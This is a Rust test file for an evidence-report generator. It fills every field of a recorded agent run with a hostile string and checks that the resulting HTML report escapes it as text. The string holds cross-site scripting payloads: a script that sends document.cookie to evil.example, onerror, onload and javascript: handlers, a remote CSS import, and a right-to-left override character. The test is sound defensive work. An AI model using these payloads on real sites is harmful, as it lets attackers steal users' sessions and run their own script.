//! A run that is hostile in every text, and the report of it: text, and never more.

use std::collections::BTreeMap;

use tracekeep_core::compare::{Change, Verdict};
use tracekeep_core::hash::Hash;
use tracekeep_core::json::Json;
use tracekeep_evidence::account::Account;
use tracekeep_evidence::bundle::{Contents, Kind};
use tracekeep_evidence::comparison::{Beyond, Comparison, Example, FirstDifference, Group, Matches, Own};
use tracekeep_evidence::controls::controls;
use tracekeep_evidence::debrief::debrief;
use tracekeep_evidence::report::{Cover, report};

use super::ledger::Ledger;

/// What would run, load or lead somewhere if it were markup.
const HOSTILE: &str = r#"</title></table></svg><script>fetch('//evil.example/'+document.cookie)</script><img src=x onerror=alert(1)><svg onload=alert(2)><a href=\"javascript:alert(3)\">x</a><style>@import url(//evil.example/x.css)</style>\u202e&lt;\u0000"#;
const RUN: &str = "<script>alert('run')</script>";

/// The ledger, and a bundle of its run.
pub(crate) fn hostile() -> (Ledger, Contents) {
    let mut ledger = Ledger::new();
    let body = |op: &str, more: &str| format!(r#"{{"op":"{op}","run_id":"{RUN}",{more}}}"#);
    let start = format!(
        r#""agent_id":"{HOSTILE}","goal":"{HOSTILE}","policy_snapshot_id":"{HOSTILE}","seed":-1,"started_at":"2026-11-20T10:00:00.000000000Z""#
    );
    ledger.push("run_started", RUN, &body("start_run", &start));
    let wide = "\u{05e9}W".repeat(2_500);
    let step = format!(
        r#""cost_cents":"1","duration_ms":10,"index":0,"occurred_at":"2026-11-20T10:00:00.000000000Z","params":{{"{HOSTILE}":"{HOSTILE}","wide":"{wide}"}},
        "skill_name":"{HOSTILE}","status":"failure""#
    );
    ledger.push("step", RUN, &body("record_step", &step));
    let trace = |id: &str, parent: &str| {
        format!(
            r#""id":"{id}","parent_id":"{parent}","trace_type":{{"chosen":"{HOSTILE}","options":[],"question":"{HOSTILE}","type":"Decision"}}"#
        )
    };
    ledger.push("trace", RUN, &body("record_trace", &trace("a", "b")));
    ledger.push("trace", RUN, &body("record_trace", &trace("b", "a")));
    ledger.push("verdict", RUN, &body("reconcile", &format!(r#""verdict":{{"verdict":"{HOSTILE}"}}"#)));
    let incident = format!(
        r#""actual":"{HOSTILE}","created_at":"2026-11-20T10:00:01.000000000Z","incident_id":"inc-1","policy_id":"{HOSTILE}","severity":"high",
        "summary":"{HOSTILE}","threshold":{{"{HOSTILE}":1}},"title":"{HOSTILE}","violation_step_index":0,"violation_type":"{HOSTILE}""#
    );
    ledger.push("incident", RUN, &body("open_incident", &incident));
    let seal = format!(
        r#""behaviour_hash":"{0}","entries":{1},"run_root":"{2}","plan_hash":"{0}","root_hash":"{0}","completed_at":"2026-11-20T10:00:02.000000000Z","status":"failed","termination_reason":"{HOSTILE}{wide}",
        "violation":{{"policy_id":"{HOSTILE}","reason":"{HOSTILE}","step_index":0}}"#,
        Hash::ZERO,
        ledger.size(),
        ledger.run_root(RUN)
    );
    ledger.push("sealed", RUN, &body("complete_run", &seal));
    ledger.start("other");
    let mut contents = ledger.contents(Kind::Evidence, ledger.of_runs(&[RUN]));
    let words = Json::parse(&format!("\"{HOSTILE}\"")).unwrap().value().as_str().unwrap().to_owned();
    let group = Group {
        relation: Verdict::Diverged,
        runs: 1,
        status: words.clone(),
        examples: vec![Example { run_id: words.clone(), seal: ledger.size() - 1 }],
    };
    let fields = vec!["status".to_owned()];
    let matches = |own| Matches {
        own,
        groups: vec![group],
        beyond: Beyond::default(),
        unverifiable: 0,
        complete: false,
        difference: Some(FirstDifference { run_id: words.clone(), step: None, change: Change::Changed, fields }),
    };
    let own = Own::of(&contents.records, RUN);
    assert!(own.is_some());
    contents.comparison = Some(Comparison { run_id: RUN.to_owned(), matches: own.map(matches) });
    contents.tenant_id = words.clone();
    contents.exported_by = words.clone();
    let account = Account::of(&contents.records, Some(RUN), Some("inc-1"));
    contents.incident_id = Some("inc-1".to_owned());
    contents.controls = Some(controls(&account, contents.period).to_json());
    contents.debrief = Some(debrief(&account).to_json());
    let checkpoint = ledger.checkpoint(ledger.size());
    let cover = Cover {
        kind: contents.kind,
        ledger: ledger.id,
        tenant_id: &words,
        exported_by: &words,
        size: checkpoint.size,
        root: checkpoint.root,
        created_at: contents.created_at,
        forced: true,
        redacted: &BTreeMap::new(),
    };
    contents.report = report(&cover, &account, &contents.records, None, contents.comparison.as_ref());
    (ledger, contents)
}

#[test]
fn recorded_text_is_never_markup() {
    let (_, contents) = hostile();
    let page = &contents.report;
    let own = "!doctype html head meta title style body h1 h2 h3 p bdi br pre div table thead tbody tr th td ul li svg text rect line";
    for tag in page.split('<').skip(1) {
        let name: String = tag.chars().take_while(|c| c.is_ascii_alphanumeric() || "!/".contains(*c)).collect();
        assert!(own.split(' ').any(|own| own == name.trim_start_matches('/')), "{name}");
        let tag = tag.split('>').next().unwrap();
        assert!(["href", " src", "onerror", "onload", "url("].iter().all(|word| !tag.contains(word)), "{tag}");
    }
    assert!(page.contains("default-src 'none'; style-src 'unsafe-inline'"));
    assert!(page.contains("&lt;script&gt;"));
    assert!(!page.contains('\u{202e}') && !page.contains('\0'));
}
